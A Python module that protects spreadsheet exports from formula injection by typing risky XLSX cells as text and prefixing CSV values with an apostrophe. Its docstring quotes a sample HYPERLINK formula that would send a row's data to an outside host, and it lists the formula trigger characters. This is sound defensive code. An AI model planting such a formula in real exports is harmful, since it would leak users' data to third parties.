"""Exports that keep user-entered text text.

A spreadsheet program runs a cell that starts with «=» (and, in CSV, «+», «-», «@», a tab or a
carriage return) as a formula: a name typed as `=HYPERLINK("http://…?"&B2;"Открыть")` would send
the row to a stranger when the curator clicks it. Every XLSX and CSV export writes its rows
through this module:

- XLSX (openpyxl, normal and write-only sheets): `append_row(sheet, values)` or
  `safe_cell(sheet, value)` — such a string becomes a cell of type «s» (text) with the value unchanged;
  characters XML cannot hold are dropped instead of failing the whole export;
- CSV: `safe_csv_writer(stream)` — such a string is prefixed with «'», the convention spreadsheet
  programs show as text (a CSV cell has no type).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32_767


def needs_text_protection(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(sheet: Any, value: Any) -> Any:
    """A value for `sheet.append`: unchanged unless it is a string a spreadsheet could run, which
    becomes an openpyxl cell of `sheet` typed as text (the value itself unchanged)."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if ILLEGAL_CHARACTERS_RE.search(value):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not needs_text_protection(value):
        return value
    cell = WriteOnlyCell(sheet)
    cell._value = value[:MAX_CELL_CHARS]  # openpyxl would take a leading «=» for a formula
    cell.data_type = "s"
    return cell


def safe_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    return [safe_cell(sheet, value) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with every user-entered string kept as text."""
    sheet.append(safe_row(sheet, values))


def protect_csv_value(value: Any) -> Any:
    return f"'{value}" if needs_text_protection(value) else value


class SafeCsvWriter:
    """csv.writer whose rows cannot start a formula in a spreadsheet program."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([protect_csv_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(stream: Any, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **kwargs)
